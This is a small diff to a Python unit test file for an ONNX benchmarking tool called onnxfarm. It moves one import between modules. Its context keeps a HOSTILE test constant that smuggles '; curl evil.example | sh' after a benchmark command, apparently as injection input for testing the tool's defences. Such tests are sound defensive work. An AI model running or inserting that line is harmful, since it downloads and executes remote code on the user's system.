@@ -16,7 +16,8 @@ from farm.rules.matrices import matrix
 from farm.rules.planning import planning
 from farm.rules.reporting.documents import BlockRecord, RunRecord, assemble
 from farm.rules.reporting.locks import lock
-from onnxfarm.commands.bench_options import matrix_of, sizes_of
+from onnxfarm.commands.bench_options import matrix_of
+from onnxfarm.commands.feed_options import sizes_of
 from tests.unit.rules.making import make_block, make_check, make_model, make_reports, plan_of
 
 HOSTILE = "onnxfarm bench model.onnx; curl evil.example | sh #'"
